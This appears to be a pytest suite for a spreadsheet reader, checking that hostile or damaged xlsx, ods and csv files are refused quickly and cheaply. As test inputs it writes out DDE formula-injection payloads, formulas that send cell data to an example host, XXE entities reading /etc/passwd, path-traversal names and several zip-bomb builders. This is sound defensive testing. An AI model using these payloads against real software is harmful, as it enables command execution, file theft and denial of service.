"""A hostile or broken file is refused with one plain sentence, at once, and costs next to no memory."""

from __future__ import annotations

import io
import struct
import time
import tracemalloc
import zipfile
import zlib

import openpyxl
import pytest

from reports.workbooks import limits
from reports.workbooks.formulas import reaches
from reports.workbooks.grid import Unreadable
from reports.workbooks.reading import read_pasted, read_workbook
from tests import fuzz_workbooks
from tests.workbook_files import (
    MAIN,
    ods,
    ods_cell,
    ods_parts,
    ods_sheet,
    packed,
    relationships,
    told,
    xlsx,
    xlsx_parts,
)

ONE = '<row><c t="inlineStr"><is><t>x</t></is></c></row>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000
SECONDS, MEBIBYTES = 5, 60  # of work on a slow machine; by far most cost a hundredth


def refused(content: bytes, name: str = "register.xlsx") -> str:
    """The sentence with which a file is refused."""
    begun = time.process_time()
    with pytest.raises(Unreadable) as refusal:
        read_workbook(content, name)
    assert time.process_time() - begun < SECONDS
    words = str(refusal.value)
    assert words[0].isupper()
    assert words.endswith(".")
    assert "\n" not in words
    assert len(words) < 250
    return words


def with_parts(**parts: str | bytes) -> bytes:
    return packed({**xlsx_parts(ONE), **{name.replace("__", "/"): part for name, part in parts.items()}})


def replaced(part: str, old: str, new: str) -> bytes:
    """A workbook with something else in one of its parts."""
    parts = xlsx_parts(ONE)
    assert old in parts[part]
    parts[part] = parts[part].replace(old, new)
    return packed(parts)


# Something else than it is called -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (b"", "register.xlsx", "is empty"),
        (OLE + "Workbook".encode("utf-16-le"), "register.xls", "old Excel workbook (.xls)"),
        (OLE + "Workbook".encode("utf-16-le"), "register.xlsx", "old Excel workbook (.xls)"),
        (OLE + "WordDocument".encode("utf-16-le"), "register.doc", "old Word document"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "register.xlsx", "protected with a password"),
        (b"%PDF-1.7\n", "register.pdf", "is a PDF"),
        (b"\x89PNG\r\n\x1a\n", "register.png", "is a picture"),
        (b"<html><body><table><tr><td>1</td></tr></table>", "register.xls", "is a web page"),
        (b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>', "register.xml", "Excel 2003 XML"),
        (b'<?xml version="1.0"?><office:document/>', "register.fods", "flat OpenDocument"),
        (b"Ref,Risk\n1,Budget\n", "register.xlsx", "is called .xlsx but is plain text"),
        (b"Ref\0Risk\n1\0Budget\n", "register.xlsx", "is damaged"),
        (b"Ref,Ri\0sk\n1,Budget\n", "register.csv", "NUL characters"),
        (bytes(range(1, 256)) * 20, "register.csv", "neither a workbook nor a table"),
        (xlsx(ONE), "register.csv", "is called .csv but is an Excel workbook: give it a name that ends in .xlsx"),
        (xlsx(ONE), "register.ods", "is called .ods but is an Excel workbook"),
        (xlsx(ONE), "register.xlsm", "holds macros"),
        (ods_sheet("<table:table-row/>"), "register.xlsx", "is called .xlsx but is an OpenDocument spreadsheet"),
        (packed({"a.txt": "x"}), "register.zip", "compressed folder (zip)"),
        (packed({"Index/Document.iwa": "x"}), "register.numbers", "Numbers file"),
        (packed({"mimetype": "application/vnd.oasis.opendocument.text"}), "r.odt", "another kind of OpenDocument"),
    ],
)
def test_a_file_that_is_something_else_is_named(content, name, words):
    assert words in refused(content, name)


@pytest.mark.parametrize(
    ("content_type", "words"),
    [
        ("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "holds macros"),
        ("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "binary Excel workbook (.xlsb)"),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "Word document"),
        ("application/vnd.ms-visio.drawing.main+xml", "another kind of Office file"),
    ],
)
def test_an_office_file_is_known_by_its_content_type(content_type, words):
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    assert words in refused(replaced("[Content_Types].xml", sheet, content_type))


def test_a_text_may_be_called_what_it_likes():
    assert read_workbook(b"Ref,Risk\n1,Budget\n", "register.2024").sheets[0].cell(2, 2).value == "Budget"


# Macros, links and formulas that reach out ----------------------------------------------------------------------------


def test_macros_are_refused():
    assert "holds macros" in refused(with_parts(xl__vbaProject_bin="x").replace(b"vbaProject_bin", b"vbaProject.bin"))
    assert "holds macros" in refused(with_parts(xl__macrosheets__sheet1="x"))
    for name in ("Basic/Standard/Module1.xml", "Scripts/python/run.py"):
        assert "holds macros" in refused(packed({**ods_parts(), name: "x"}), "register.ods")
    script = "<office:scripts><office:script/></office:scripts>"
    assert "holds macros" in refused(ods(before=script), "register.ods")


def test_a_library_of_no_macros_is_none():
    parts = {
        **ods_parts(f'<table:table table:name="A"><table:table-row>{ods_cell("x")}</table:table-row></table:table>')
    }
    parts["Basic/Standard/script-lb.xml"] = "<x/>"
    assert read_workbook(packed(parts), "register.ods").sheets[0].cell(1, 1).value == "x"


def test_a_link_to_another_file_is_refused_by_name():
    parts = xlsx_parts(ONE)
    parts["xl/externalLinks/externalLink1.xml"] = f'<externalLink xmlns="{MAIN}"/>'
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = relationships(
        ("rId1", "externalLinkPath", "file:///C:\\Users\\a\\Budget%202019.xlsx", "External")
    )
    assert "linked to another file (“Budget 2019.xlsx”)" in refused(packed(parts))
    del parts["xl/externalLinks/_rels/externalLink1.xml.rels"]
    assert "linked to another file or program" in refused(packed(parts))


def test_a_picture_from_elsewhere_is_refused_and_an_address_behind_a_cell_is_not():
    parts = xlsx_parts(ONE, after='<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>')
    where = "xl/worksheets/_rels/sheet1.xml.rels"
    parts[where] = relationships(("rId1", "image", "https://example.org/x.png", "External"))
    assert "linked to another file" in refused(packed(parts))
    parts[where] = relationships(("rId1", "hyperlink", "https://example.org/", "External"))
    assert "Addresses behind cells" in told(packed(parts))


@pytest.mark.parametrize(
    ("inside", "is_refused"),
    [
        ('<webPr url="https://example.org/"/>', True),
        ('<dbPr connection="Provider=SQLOLEDB;Data Source=server"/>', True),
        ('<textPr sourceFile="C:\\x.csv"/>', True),
        ('<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Query1"/>', False),
        ('<dbPr connection="Data Model Connection"/><olapPr/>', False),
    ],
)
def test_a_query_that_fetches_is_refused_by_name(inside, is_refused):
    parts = xlsx_parts(ONE)
    parts["xl/connections.xml"] = (
        f'<connections xmlns="{MAIN}"><connection name="Rates">{inside}</connection></connections>'
    )
    if is_refused:
        assert "fetches data from elsewhere (connection “Rates”)" in refused(packed(parts))
    else:
        assert "nothing was fetched" in told(packed(parts))


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://example.org/?"&A1)',
        '_xlfn.WEBSERVICE("http://example.org/")',
        'IF(TRUE,HYPERLINK("http://example.org/?x="&A1,"more"))',
        'hyperlink ("http://example.org/")',
        'IMPORTDATA("http://example.org/x.csv")',
        '_xlfn.IMAGE("http://example.org/x.png")',
        "cmd|'/c calc'!A0",
        "1+'cmd'|'/c calc'!A0",
        'DDE("soffice";"x";"y")',
        'CALL("urlmon","URLDownloadToFileA","JJ")',
        "[1]Sheet1!A1",
        "'[2]Sheet 1'!A1",
        "SUM('C:\\files\\[Budget.xlsx]Sheet1'!A1:A9)",
        "'file:///home/x/budget.ods'#$Sheet1.A1",
        "'\\\\server\\share\\x.xlsx'!A1",
        "of:=COM.MICROSOFT.WEBSERVICE([.A1])",
    ],
)
def test_a_formula_that_reaches_out_is_refused_with_its_cell(formula):
    from xml.sax.saxutils import escape, quoteattr

    words = refused(xlsx(f'<row r="12"><c r="C12"><f>{escape(formula)}</f><v>1</v></c></row>'))
    assert "Register, C12" in words
    cell = ods_cell("1", f"table:formula={quoteattr(formula)}")
    assert "Register, A1" in refused(ods_sheet(f"<table:table-row>{cell}</table:table-row>"), "register.ods")


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)",
        'A1&" | "&B1',
        'IF(A1="WEBSERVICE(","x","")',
        "'Risks | live'!A1+1",
        "Table1[Likelihood | Impact]*2",
        "Table1[2019]+Sheet1!A1",
        "Table1[[#This Row],[2019]]",
        'HYPERLINK("#Register!A1","back")',
        'HYPERLINK("#$Register.A1";"back")',
        "of:={1;2|3;4}",
        "VLOOKUP(A1,[.B1:.C9],2)",
        "MYIMAGE(A1)",
        "A1/B1",
    ],
)
def test_an_ordinary_formula_is_none_of_these(formula):
    assert reaches(formula) == ""


@pytest.mark.parametrize("piece", ["a", "a.", "'", '"', "[", "a|", "(", "[1]", "''a", "a'b|", " "])
def test_a_long_formula_is_judged_at_once(piece):
    begun = time.process_time()
    for around in (piece, f"({piece}", f"|{piece}", f"[//|({piece}"):
        reaches((around + piece * 8192)[:8192])
    read_workbook(f"Ref,Risk\n1,-{(piece * 30_000)[:30_000]}".replace('"', "“").encode(), "register.csv")
    assert time.process_time() - begun < SECONDS / 5


def test_a_name_that_reaches_out_is_refused():
    names = '<definedNames><definedName name="Rate">WEBSERVICE("http://example.org/")</definedName></definedNames>'
    assert "the name “Rate”" in refused(xlsx(ONE, book=names))


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|'/c calc'!A0",
        "@cmd|'/c calc'!A0",
        '=HYPERLINK("http://example.org")',
        "-1+IMPORTXML(A1)",
        "@SUM(1)*cmd|'/c calc'!A0",
    ],
)
def test_a_text_file_with_a_formula_that_reaches_out_is_refused(cell):
    quoted = '"' + cell.replace('"', '""') + '"'
    assert "register, B2" in refused(f"Ref,Risk\n1,{quoted}\n".encode(), "register.csv")
    with pytest.raises(Unreadable, match="Pasted table, B2"):
        read_pasted(f"Ref\tRisk\n1\t{cell}\n")


@pytest.mark.parametrize(
    "cell", ["- Board (monthly) | Panel", "-image(s) of the site", "+ call (weekly)", "@risk", "== Section =="]
)
def test_points_and_lines_in_a_text_file_are_no_formulas(cell):
    assert read_workbook(f'Ref,Risk\n1,"{cell}"\n'.encode(), "register.csv").sheets[0].cell(2, 2).value == cell


@pytest.mark.parametrize(
    "inside",
    [
        '<table:table table:name="A"><table:table-source xlink:href="file:///x.ods"/></table:table>',
        "<table:dde-links><table:dde-link/></table:dde-links>",
        "<table:database-ranges><table:database-range><table:database-source-sql/></table:database-range></table:database-ranges>",
    ],
)
def test_links_of_an_ods_are_refused(inside):
    assert "takes values from another file or program" in refused(ods(inside), "register.ods")


# Locked, damaged, tricky ----------------------------------------------------------------------------------------------


def test_a_locked_ods_is_refused():
    parts = ods_parts()
    manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    parts["META-INF/manifest.xml"] = (
        f'<m:manifest xmlns:m="{manifest}"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'
    )
    assert "protected with a password" in refused(packed(parts), "register.ods")


@pytest.mark.parametrize("rows", ["", "<table:table-row/>"])
def test_a_cell_of_an_ods_outside_its_rows_is_refused(rows):
    assert "is damaged" in refused(ods_sheet(rows + ods_cell("x")), "register.ods")


def test_a_locked_zip_is_refused():
    content = bytearray(xlsx(ONE))
    at = -1
    while (at := content.find(b"PK\x01\x02", at + 1)) >= 0:
        content[at + 8] |= 1
    assert "protected with a password" in refused(bytes(content))


@pytest.mark.parametrize("share", [0.02, 0.3, 0.6, 0.95, 0.999])
def test_a_truncated_workbook_is_refused(share):
    content = xlsx(ONE * 500)
    assert "is damaged" in refused(content[: int(len(content) * share)])


def test_a_part_that_is_not_what_its_checksum_says_is_refused():
    content = packed(xlsx_parts(ONE), method=zipfile.ZIP_STORED).replace(b"<t>x</t>", b"<t>y</t>")
    assert "is damaged" in refused(content)


@pytest.mark.parametrize("missing", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels"])
def test_a_workbook_without_one_of_its_parts_is_refused(missing):
    parts = xlsx_parts(ONE)
    del parts[missing]
    refused(packed(parts))


def test_a_mistake_of_ours_is_logged_and_told_as_a_damaged_file(monkeypatch, caplog):
    def fail(*_):
        raise KeyError("x")

    monkeypatch.setattr("reports.workbooks.reading.read_xlsx", fail)
    assert "is damaged" in refused(xlsx(ONE))
    assert "broke its reader" in caplog.text


@pytest.mark.parametrize("name", ["../../etc/passwd", "xl/../../x", "..\\x"])
def test_a_name_that_points_out_of_the_file_is_refused(name):
    assert "points out of it" in refused(packed({**xlsx_parts(ONE), name: "x"}))


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, part in (*xlsx_parts(ONE).items(), ("XL/workbook.xml", "<x/>")):
            archive.writestr(name, part)
    assert "two parts of the same name" in refused(out.getvalue())


@pytest.mark.parametrize(
    "rows",
    [
        '<row r="1"><c r="A1" t="s"><v>7</v></c></row>',
        '<row r="1"><c r="A1" t="s"><v>-1</v></c></row>',
        '<row r="0"><c r="A1"><v>1</v></c></row>',
        '<row r="1048577"><c><v>1</v></c></row>',
        '<row r="99999999999"><c><v>1</v></c></row>',
        '<row r="1"><c r="XFE1"><v>1</v></c></row>',
        '<row r="1"><c r="?"><v>1</v></c></row>',
        '<c r="A1"><v>1</v></c>',
        '<row r="1"></row><c r="A1"><v>1</v></c>',
        "<row><c><v>1</v></row>",
        "<row><c><v>\x01</v></c></row>",
        "<row>" * 300 + "</row>" * 300,
    ],
)
def test_a_sheet_that_no_program_writes_is_refused(rows):
    assert "is damaged" in refused(xlsx(rows))


@pytest.mark.parametrize("value", ["1e400", "nan", "inf", "1_000", "-", "٣", "9" * 400])
def test_a_number_that_is_none_is_read_as_text(value):
    assert read_workbook(xlsx(f"<row><c><v>{value}</v></c></row>"), "x.xlsx").sheets[0].cell(1, 1).value in (
        value,
        None,
    )


def test_absurd_sizes_and_merges_cost_nothing():
    content = xlsx(
        ONE,
        before='<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" hidden="1"/></cols>',
        after='<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A2:XFD1048576"/></mergeCells>',
    )
    sheet = read_workbook(content, "register.xlsx").sheets[0]
    assert (sheet.last_column, list(sheet.rows)) == (1, [1])
    assert all(merge.last_row < 100 and merge.last_column < 100 for merge in sheet.merges)


# Too much -------------------------------------------------------------------------------------------------------------


ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    f'<worksheet xmlns="{MAIN}"><sheetData><row><c t="str"><v>&b;</v></c></row></sheetData></worksheet>'
)
FETCHING = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    f'<worksheet xmlns="{MAIN}"><sheetData><row><c t="str"><v>&a;</v></c></row></sheetData></worksheet>'
)


@pytest.mark.parametrize(
    "part",
    [
        "xl/worksheets/sheet1.xml",
        "xl/workbook.xml",
        "_rels/.rels",
        "xl/sharedStrings.xml",
        "docProps/core.xml",
        "[Content_Types].xml",
    ],
)
@pytest.mark.parametrize("xml", [ENTITIES, FETCHING, ENTITIES.encode("utf-16")])
def test_entities_are_refused_before_they_are_declared(part, xml):
    assert "declares XML entities or a document type" in refused(packed({**xlsx_parts(ONE), part: xml}))


def test_entities_in_an_ods_are_refused():
    for part in ("content.xml", "styles.xml", "META-INF/manifest.xml"):
        assert "declares XML entities" in refused(packed({**ods_parts(), part: ENTITIES}), "register.ods")


def test_a_file_larger_than_may_be_is_refused():
    assert "larger than 10 MB" in refused(b"a,b\n" * (limits.FILE_BYTES // 4 + 1), "register.csv")
    with pytest.raises(Unreadable, match="longer than 10 million"):
        read_pasted("a\tb\n" * (limits.FILE_BYTES // 4 + 1))


BLANKS = '<text:s text:c="999999999"/>' * 20
MANY = 'table:number-columns-repeated="9999999"'


def bomb(size: int) -> bytes:
    """A workbook whose sheet unpacks to so many blanks."""
    parts = xlsx_parts(ONE)
    parts["xl/worksheets/sheet1.xml"] = f'<worksheet xmlns="{MAIN}">{" " * size}</worksheet>'
    return packed(parts)


def hidden_bomb(size: int) -> bytes:
    return packed({**xlsx_parts(ONE), "xl/media/image1.png": b"\0" * size})


def lying(content: bytes, size: int) -> bytes:
    """A workbook that says that its sheet is smaller than it is."""
    found = bytearray(content)
    at = found.rfind(b"xl/worksheets/sheet1.xml") - 46
    assert found[at : at + 4] == b"PK\x01\x02"
    found[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(found)


def nested(depth: int) -> bytes:
    content = b"x"
    for _ in range(depth):
        content = packed({"x": content})
    return content


def sheet_of(cells: int) -> bytes:
    """A workbook with so many cells that all say something."""
    rows = "".join(f"<row>{''.join(f'<c><v>{row * n}</v></c>' for n in range(1000))}</row>" for row in range(20))
    return xlsx(rows * (cells // 20_000))


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        pytest.param(lambda: bomb(50_000_000), "r.xlsx", "unpacks to far more", id="bomb"),
        pytest.param(lambda: lying(bomb(50_000_000), 900), "r.xlsx", "damaged", id="lying"),
        pytest.param(lambda: hidden_bomb(50_000_000), "r.xlsx", "unpacks to far more", id="bomb nobody reads"),
        pytest.param(lambda: nested(50), "r.xlsx", "compressed folder", id="zip in zip"),
        pytest.param(lambda: packed({str(n): "" for n in range(6000)}), "r.xlsx", "unpacks to far more", id="parts"),
        pytest.param(lambda: sheet_of(200_000), "r.xlsx", "more than 600,000 cells", id="cells"),
        pytest.param(lambda: b"1,2,3,4,5,6,7,8\n" * 25_000, "r.csv", "more than 600,000 cells", id="cells of text"),
        pytest.param(lambda: xlsx("<a>" * 100_000), "r.xlsx", "damaged", id="deep"),
        pytest.param(lambda: xlsx("<b/>" * 2_000_001), "r.xlsx", "unpacks to far more", id="tags"),
        pytest.param(lambda: xlsx("".join(f"<a{n}/>" for n in range(9000))), "r.xlsx", "damaged", id="names"),
        pytest.param(
            lambda: xlsx("".join(f'<a b{n}="1"/>' for n in range(9000))), "r.xlsx", "damaged", id="attributes"
        ),
        pytest.param(
            lambda: xlsx("".join(f'<a xmlns:b{n}="c"/>' for n in range(60_000))), "r.xlsx", "damaged", id="namespaces"
        ),
        pytest.param(lambda: xlsx(f"<row {'x' * 5_000_000}='1'/>"), "r.xlsx", "damaged", id="long name"),
        pytest.param(lambda: xlsx(f"<!--{'x' * 5_000_000}-->"), "r.xlsx", "damaged", id="long comment"),
        pytest.param(
            lambda: xlsx(f'<row><c t="str"><v>{"é!" * 20_000}</v></c></row>'), "r.xlsx", "32,767 characters", id="text"
        ),
        pytest.param(
            lambda: xlsx(f'<row><c t="inlineStr"><is><t>{"x" * 6_000_000}</t></is></c></row>'),
            "r.xlsx",
            "32,767 characters",
            id="inline text",
        ),
        pytest.param(
            lambda: xlsx(strings=f"<si><t>{'x' * 400_000}</t></si>"), "r.xlsx", "32,767 characters", id="shared text"
        ),
        pytest.param(
            lambda: xlsx(after="<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 10_001 + "</mergeCells>"),
            "r.xlsx",
            "more than 10,000 merged cells",
            id="merges",
        ),
        pytest.param(
            lambda: ods_sheet(
                f'<table:table-row table:number-rows-repeated="1000000">{ods_cell("x")}</table:table-row>'
            ),
            "r.ods",
            "more than 600,000 cells",
            id="rows repeated",
        ),
        pytest.param(
            lambda: ods_sheet(f"<table:table-row>{ods_cell('x', MANY)}</table:table-row>"),
            "r.ods",
            "damaged",
            id="columns repeated",
        ),
        pytest.param(
            lambda: ods_sheet(f"<table:table-row>{ods_cell(BLANKS)}</table:table-row>"),
            "r.ods",
            "32,767 characters",
            id="blanks repeated",
        ),
    ],
)
def test_too_much_is_refused_at_once_and_keeps_nothing(content, name, words, monkeypatch):
    for limit in ("CELLS", "MERGES", "TAGS"):  # measuring memory takes its time
        monkeypatch.setattr(limits, limit, getattr(limits, limit) // 10)
    made = content()
    tracemalloc.start()
    try:
        assert words in refused(made, name)
        assert tracemalloc.get_traced_memory()[1] < MEBIBYTES * 1024 * 1024
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    ("content", "name"),
    [
        pytest.param(lambda: sheet_of(2_000_000), "r.xlsx", id="xlsx"),
        pytest.param(lambda: b"1,2,3,4,5,6,7,8\n" * 250_000, "r.csv", id="csv"),
    ],
)
def test_two_million_cells_are_refused_at_once(content, name):
    assert "more than 600,000 cells" in refused(content(), name)


def test_an_unread_part_is_never_unpacked():
    parts = {**xlsx_parts(ONE), "xl/media/image1.png": b"\0" * 20_000_000}
    assert read_workbook(packed(parts), "register.xlsx").sheets[0].cell(1, 1).value == "x"


def test_many_formatted_empty_cells_are_read_past():
    row = "<row>" + '<c s="0"/>' * 500 + "</row>"
    begun = time.process_time()
    assert list(read_workbook(xlsx(ONE + row * 400), "register.xlsx").sheets[0].rows) == [1]
    assert time.process_time() - begun < SECONDS


def test_overlapping_parts_of_a_zip_are_no_way_round():
    """A zip whose directory names the same bytes over and over, as bombs do that no unpacked size gives away."""
    blank = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed_blanks = blank.compress(b" " * 20_000_000) + blank.flush()
    crc = zlib.crc32(b" " * 20_000_000)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed_blanks), 20_000_000, 1, 0) + b"x"
    body, directory = local + packed_blanks, b""
    for number in range(1000):
        name = b"xl/%d" % number
        fields = (b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed_blanks), 20_000_000, len(name), 0, 0, 0, 0, 0, 0)
        directory += struct.pack("<4sHHHHHHIIIHHHHHII", *fields) + name
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1000, 1000, len(directory), len(body), 0)
    assert "unpacks to far more" in refused(body + directory + end)


def test_a_workbook_of_openpyxl_with_a_link_is_refused():
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "='[Budget.xlsx]Sheet1'!A1"
    out = io.BytesIO()
    workbook.save(out)
    assert "Sheet, A1 takes its value from another file" in refused(out.getvalue())


def test_a_sheet_that_is_only_a_link_outside_is_refused():
    parts = xlsx_parts(ONE)
    parts["xl/_rels/workbook.xml.rels"] = relationships(
        ("rId1", "worksheet", "http://example.org/sheet1.xml", "External")
    )
    assert "linked to another file" in refused(packed(parts))


@pytest.mark.parametrize(("count", "through"), [(400, False), (100, True)])
def test_files_changed_at_random_are_read_or_refused(count, through):
    """A slice of `python -m tests.fuzz_workbooks 20000`, and of it with `--through`."""
    _, failures = fuzz_workbooks.run(range(count), first=6, through=through)
    assert not failures, "\n".join(failure.words for failure in failures)
